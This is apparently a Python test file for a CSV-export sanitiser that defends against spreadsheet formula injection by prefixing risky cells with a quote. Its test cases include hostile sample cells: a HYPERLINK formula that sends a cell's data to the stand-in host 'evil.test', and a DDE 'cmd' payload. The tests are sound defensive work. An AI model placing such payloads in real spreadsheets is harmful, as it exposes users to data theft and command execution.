"""CSV cells never start a formula; the text a spreadsheet shows is the text that was stored."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keel.domain.csv_cells import FORMULA_TRIGGERS, csv_line, neutralise

DANGEROUS = "=+-@\t\r"  # OWASP's list; FORMULA_TRIGGERS holds these and a few more
cells = st.one_of(
    st.text(max_size=60),
    st.builds(
        lambda first, rest: first + rest,
        st.sampled_from(sorted(FORMULA_TRIGGERS)),
        st.text(max_size=40),
    ),
)


def _parse(line: bytes) -> list[str]:
    [row] = list(csv.reader(io.StringIO(line.decode(), newline="")))
    return row


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.test/?"&A1,"click")', '\'=HYPERLINK("http://evil.test/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1,2)", "'@SUM(1,2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
    ],
)  # fmt: skip
def test_a_cell_that_would_start_a_formula_is_prefixed_with_a_quote(
    cell: str, written: str
) -> None:
    assert neutralise(cell) == written
    assert _parse(csv_line([cell])) == [written]


def test_every_cell_is_quoted() -> None:
    assert csv_line(["=1+1", "plain", None, 3]) == b'"\'=1+1","plain","","3"\r\n'


@given(st.lists(cells, min_size=1, max_size=8))
def test_no_cell_of_a_written_row_starts_with_a_dangerous_character(row: list[str]) -> None:
    parsed = _parse(csv_line(row))
    assert len(parsed) == len(row)
    for original, cell in zip(row, parsed, strict=True):
        assert not cell or cell[0] not in FORMULA_TRIGGERS
        assert not cell or cell[0] not in DANGEROUS
        # Nothing else changes: the stored text is the cell minus the one added quote.
        assert cell == original or cell == "'" + original
